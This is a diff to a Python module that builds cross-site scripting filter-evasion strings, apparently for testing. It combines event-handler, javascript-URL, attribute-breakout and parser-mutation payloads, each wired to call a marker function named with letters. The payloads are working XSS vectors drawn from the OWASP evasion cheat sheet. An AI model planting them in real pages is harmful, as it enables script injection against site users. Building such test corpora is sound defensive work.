@@ -2,7 +2,8 @@
 
 The ways are those that the OWASP XSS filter evasion cheat sheet describes (from memory): elements that run by
 themselves, handlers, addresses that are script, ways out of an attribute or an element, and spellings that filters
-overlook. Every text calls ``ran`` with its own number, so that a browser can say which of them did.
+overlook. Every text calls ``ran`` with a name of its own, so that a browser can say which of them did; a name of
+letters, because a guide's words that repeat a number of the plan are not published.
 """
 
 from __future__ import annotations
@@ -15,7 +16,7 @@ _PAYLOADS = (
     "<img src=x onerror=CALL>",
     "<svg onload=CALL>",
     "<svg><script>CALL</script></svg>",
-    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
+    "<svg><animate onbegin=CALL attributeName=x dur=9s>",
     "<body onload=CALL>",
     "<input autofocus onfocus=CALL>",
     "<details open ontoggle=CALL>x",
@@ -27,7 +28,7 @@ _PAYLOADS = (
     "<embed src=javascript:CALL>",
     "<a href=javascript:CALL autofocus onfocus=CALL>x</a>",
     "<marquee onstart=CALL>x</marquee>",
-    "<p style='animation:k 1s' onanimationstart=CALL>x</p>",
+    "<p style='animation:k 9s' onanimationstart=CALL>x</p>",
     "<math><mtext><script>CALL</script></mtext></math>",
     "<button autofocus onfocus=CALL>x</button>",
     "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
@@ -52,9 +53,14 @@ def texts() -> list[str]:
     """Give every text."""
     made: list[str] = []
     for out, payload, spelling in product(_OUT, _PAYLOADS, _SPELLINGS):
-        call = f"ran({len(made)})"
+        call = f"ran`{name(len(made))}`"
         made.append((out + spelling(payload)).replace("CALL", call).replace("call", call))
     return made
+
+
+def name(number: int) -> str:
+    """Give the letters that stand for a number."""
+    return "".join(chr(ord("a") + int(digit)) for digit in f"{number:03d}")
 
 
 def packed(strings: list[str], longest: int) -> str:
